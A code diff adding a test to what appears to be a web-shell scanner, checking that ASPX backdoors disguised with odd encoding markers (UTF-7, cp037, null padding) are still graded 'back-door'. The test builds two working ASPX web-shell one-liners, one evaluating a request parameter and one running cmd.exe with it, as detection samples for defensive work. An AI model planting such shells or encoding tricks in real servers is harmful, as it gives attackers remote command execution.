@@ -136,3 +136,15 @@ test.each([
     if (facts !== null && cut && name === 'x.asp') expect(facts.cut).toBe(true);
   }
 });
+
+test('a few bytes that promise another encoding blind nobody', () => {
+  const shell = joined('<%@ Page Language="Jscript"%><%ev', 'al(Requ', 'est.Item["q"],"unsafe");%>');
+  const started = joined('<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Requ', 'est["c"]); %>');
+  const blank = ' \u0000'.repeat(300);
+  for (const text of [`Lorem ipsum ${shell}`, `Ll${shell}`, `LZ ${shell}`, `<!-- charset=cp037 -->${shell}`])
+    expect([read(text, 'a.aspx')!.grade, read(text, 'a.aspx')!.obfuscation], text).toEqual(['back-door', ['odd-encoding']]);
+  for (const text of [`<!-- +ADw- -->${started}`, `<!-- charset=utf-7 -->${started}`, `+/v8- ${started}`])
+    expect(read(text, 'a.aspx')!.grade, text).toBe('back-door');
+  expect(read(`${blank}${shell}`, 'a.aspx')!.grade).toBe('back-door');
+  expect(read('Lorem ipsum <p>dolor</p>', 'a.aspx')!.grade).toBe('none');
+});
